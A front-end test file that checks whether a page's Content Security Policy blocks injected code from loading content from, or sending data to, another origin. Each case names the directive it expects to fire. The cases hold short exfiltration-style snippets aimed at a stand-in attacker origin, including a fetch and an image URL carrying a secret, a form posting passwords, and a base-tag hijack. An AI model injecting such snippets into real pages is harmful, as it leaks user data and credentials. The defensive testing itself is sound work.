/** Injected code tries to load something from another origin, or to send data there. The page's policy blocks it. */
import { inPage, testBlocked } from './support/attempts';

testBlocked('other origins', [
  [
    'a frame of another origin',
    /^frame-src$/,
    inPage((evil) => {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/frame`;
      document.body.append(frame);
    }),
  ],
  ['data in a request', /^connect-src$/, inPage((evil) => fetch(`${evil}/?secret=1`).catch(() => undefined))],
  [
    'data in the URL of an image',
    /^img-src$/,
    inPage((evil) => {
      new Image().src = `${evil}/?secret=1`;
    }),
  ],
  [
    'a form that sends passwords to another origin',
    /^form-action$/,
    inPage((evil) => {
      const form = document.createElement('form');
      form.action = `${evil}/passwords`;
      document.body.append(form);
      form.submit();
    }),
  ],
  [
    'another base URL',
    /^base-uri$/,
    inPage((evil) => {
      const base = document.createElement('base');
      base.href = evil;
      document.head.append(base);
    }),
  ],
  [
    'a plug-in',
    /^(object-src|require-trusted-types-for)$/,
    inPage((evil) => {
      const object = document.createElement('object');
      object.data = `${evil}/x.swf`;
      document.body.append(object);
    }),
  ],
]);
